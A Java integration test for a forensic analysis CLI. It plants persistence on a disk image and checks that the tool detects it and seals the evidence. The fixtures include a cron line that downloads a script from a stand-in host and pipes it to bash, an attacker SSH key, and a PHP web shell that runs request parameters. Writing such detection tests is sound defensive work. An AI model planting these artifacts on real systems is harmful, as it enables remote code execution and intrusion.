package io.custody.tests;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.custody.evidence.Json;
import io.custody.evidence.testing.Corpus;
import io.custody.evidence.testing.Fixtures;
import io.custody.evidence.testing.Run;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/**
 * The analyzer through bin/custody as an analyst runs it: a disk image with planted persistence and
 * the Stratus Red Team CloudTrail detonations go into a case, are analysed, reported and sealed; the
 * bundle verifies with the analysis outputs in it.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AnalyzeCliIT {

  static final String CASE = "IR-ANALYZE-1";

  Path tmp;
  Cli cli;
  Path image;
  Path stratus;
  Run disk;
  Run cloudtrail;
  Run report;
  JsonNode diskJson;
  JsonNode trailJson;
  Path extracted;

  private static Run ok(Run r) {
    assertThat(r.exit()).as(r.toString()).isZero();
    return r;
  }

  private void plant(Path root, String path, String content) throws Exception {
    Path p = root.resolve(path.substring(1));
    Files.createDirectories(p.getParent());
    Files.writeString(p, content);
  }

  @BeforeAll
  void analyseASealedCase(@TempDir Path dir) throws Exception {
    tmp = dir;
    cli = new Cli(tmp.resolve("home"));
    Path root = tmp.resolve("root");
    plant(root, "/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGNm attacker@evil\n");
    plant(root, "/var/spool/cron/crontabs/root", "* * * * * wget -qO- http://203.0.113.7/m.sh | bash\n");
    plant(root, "/var/www/html/shell.php", "<?php system($_GET['cmd']); ?>\n");
    plant(root, "/var/www/html/index.php", "<?php echo 'hello'; ?>\n");
    image = tmp.resolve("web1.ext4");
    ok(Run.of(tmp, "truncate", "-s", "16M", image.toString()));
    ok(Run.of(tmp, "mkfs.ext4", "-q", "-d", root.toString(), image.toString()));
    stratus = Corpus.path("cloudtrail/stratus-red-team/detonation-logs");
    ok(cli.custody("keys", "init", "--dir", tmp.resolve("keys").toString(), "--subject", "CN=Jane Doe,O=ACME IR"));
    ok(cli.custody("case", "open", "--case", CASE, "--examiner", "Jane Doe"));
    ok(cli.custody("case", "add", "--case", CASE, "--type", "disk", "--source-id", "vol-0abc1234567890def", "--segment-size", "4M", image.toString()));
    disk = cli.custody("analyze", "disk", "--case", CASE, "--item", "vol-0abc1234567890def", "--json", "--work-dir", tmp.resolve("work").toString());
    diskJson = Json.mapper().readTree(disk.out());
    // The S3 delivery shape, gzip, beside a truncated file that must be reported and skipped.
    Path logs = Files.createDirectories(tmp.resolve("logs/AWSLogs/123456789012/CloudTrail/eu-west-1/2024/08/02"));
    for (Path f : List.of(stratus.resolve("aws.persistence.iam-backdoor-user.json"), stratus.resolve("aws.defense-evasion.cloudtrail-stop.json"))) {
      String records = "{\"Records\":" + Files.readString(f) + "}";
      try (OutputStream o = new GZIPOutputStream(Files.newOutputStream(logs.resolve(f.getFileName() + ".gz")))) {
        o.write(records.getBytes(StandardCharsets.UTF_8));
      }
    }
    Files.writeString(logs.resolve("broken.json"), "{\"Records\":[{\"eventID\":\"x\",");
    cloudtrail = cli.custody("analyze", "cloudtrail", "--case", CASE, tmp.resolve("logs").toString(), stratus.toString(), "--json");
    trailJson = Json.mapper().readTree(cloudtrail.out());
    report = ok(cli.custody("report", "--case", CASE));
    Path bundle = tmp.resolve(CASE + ".tar");
    ok(cli.custody("seal", "--case", CASE, "--key", tmp.resolve("keys/examiner.key.pem").toString(), "--cert",
        tmp.resolve("keys/examiner.cert.pem").toString(), "--out", bundle.toString()));
    ok(cli.custody("verify", bundle.toString(), "--trust", tmp.resolve("keys/examiner.cert.pem").toString()));
    extracted = Fixtures.extract(bundle, tmp.resolve("extracted"));
  }

  @Test
  void analyzeDisk_findsPlantedPersistence_exit1() {
    assertThat(disk.exit()).as(disk.toString()).isEqualTo(1);
    List<String> found = new ArrayList<>();
    diskJson.get("findings").forEach(f -> found.add(f.get("rule_id").asText() + " " + f.get("path").asText()));
    assertThat(found).contains("ssh-authorized-keys /root/.ssh/authorized_keys", "cron /var/spool/cron/crontabs/root",
        "web-shell /var/www/html/shell.php").noneMatch(s -> s.endsWith("index.php"));
    assertThat(diskJson.get("sha256").asText()).hasSize(64);
  }

  @Test
  void analyzeDisk_bodyfileInTheBundle_equalsFls() throws Exception {
    Path body = extracted.resolve("data/analysis/vol-0abc1234567890def/bodyfile-disk.txt");
    String fls = ok(Run.of(tmp, "fls", "-r", "-m", "/", image.toString())).out();
    assertThat(Files.readString(body, StandardCharsets.UTF_8)).isEqualTo(fls);
    assertThat(Files.readString(extracted.resolve("SHA256SUMS"))).contains("data/analysis/vol-0abc1234567890def/bodyfile-disk.txt",
        "timeline.csv", "disk-findings.json", "cloudtrail-analysis.json", "report.html", "report.json");
  }

  @Test
  void analyzeCloudTrail_gzipFoldersAndCorpus_malformedReportedNotFatal() {
    assertThat(cloudtrail.exit()).as("damaged input makes the analysis partial: " + cloudtrail.err()).isEqualTo(4);
    assertThat(cloudtrail.err()).contains("damaged input", "broken.json", "malformed JSON at byte");
    List<String> damaged = new ArrayList<>();
    trailJson.get("inputs").forEach(i -> {
      if (i.has("problems")) {
        damaged.add(i.get("path").asText());
      }
    });
    assertThat(damaged).singleElement().asString().endsWith("broken.json");
    assertThat(trailJson.get("inputs")).hasSize(38);
    assertThat(trailJson.get("records_read").asLong()).isEqualTo(312);
    List<String> rules = new ArrayList<>();
    trailJson.get("findings").forEach(f -> rules.add(f.get("rule_id").asText()));
    assertThat(rules).contains("iam-access-key-created", "cloudtrail-tampering", "snapshot-shared", "organization-left");
    assertThat(trailJson.get("sigma").get("loaded").asInt()).isEqualTo(57);
  }

  @Test
  void analyzeCloudTrail_accessKeyAndSigmaDir() throws Exception {
    Path rules = Files.createDirectories(tmp.resolve("rules"));
    Files.writeString(rules.resolve("stop.yml"), "title: Stop\nid: 1\nlevel: high\nlogsource:\n  product: aws\n  service: cloudtrail\n"
        + "detection:\n  sel:\n    eventName: StopLogging\n  condition: sel\n");
    Files.writeString(rules.resolve("corr.yml"), "title: Many\nlogsource:\n  product: aws\n  service: cloudtrail\n"
        + "detection:\n  sel:\n    eventName: A\n  condition: sel | count() > 5\n");
    String key = stratusKey("aws.defense-evasion.cloudtrail-stop.json");
    Run r = cli.custody("analyze", "cloudtrail", "--case", CASE, stratus.toString(), "--access-key", key, "--sigma", rules.toString(), "--json");
    JsonNode j = Json.mapper().readTree(r.out());
    assertThat(j.get("records_analysed").asLong()).isEqualTo(1);
    assertThat(j.get("sigma").get("loaded").asInt()).isEqualTo(1);
    assertThat(j.get("sigma").get("skipped").get(0).get("reason").asText()).contains("aggregation");
    assertThat(j.get("findings")).anySatisfy(f -> assertThat(f.get("rule_id").asText()).isEqualTo("sigma:1"));
  }

  private String stratusKey(String file) throws Exception {
    return Json.mapper().readTree(stratus.resolve(file).toFile()).get(0).get("userIdentity").get("accessKeyId").asText();
  }

  @Test
  void report_selfContainedAndSealed() throws Exception {
    assertThat(report.out()).contains("report.html", "report.json");
    Path html = extracted.resolve("data/analysis/" + CASE + "/report.html");
    String page = Files.readString(html);
    assertThat(page).contains(CASE, "web-shell", "cloudtrail-tampering", "<svg").doesNotContain("<script").doesNotContainPattern("(src|href)\\s*=");
    JsonNode json = Json.mapper().readTree(extracted.resolve("data/analysis/" + CASE + "-2/report.json").toFile());
    assertThat(json.get("acquisitions")).hasSize(1);
    assertThat(json.get("analyses").size()).isGreaterThanOrEqualTo(4);
  }

  @Test
  void usageErrors_exit2() {
    Run unknown = cli.custody("analyze", "disk", "--case", CASE, "--item", "vol-0nope");
    assertThat(unknown.exit()).isEqualTo(2);
    assertThat(unknown.err()).contains("vol-0nope");
    assertThat(cli.custody("analyze", "cloudtrail", "--case", CASE).exit()).isEqualTo(2);
    assertThat(cli.custody("analyze", "cloudtrail", "--case", CASE, tmp.resolve("missing").toString()).exit()).isEqualTo(2);
    assertThat(cli.custody("analyze", "disk", "--case", CASE, "--item", "vol-0abc1234567890def", "--since", "yesterday").exit()).isEqualTo(2);
    assertThat(ok(cli.custody("analyze", "--help")).out()).contains("disk", "cloudtrail");
    Run status = ok(cli.custody("case", "status", "--case", CASE, "--json"));
    assertThat(status.out()).contains("\"open_actions\": []");
  }
}
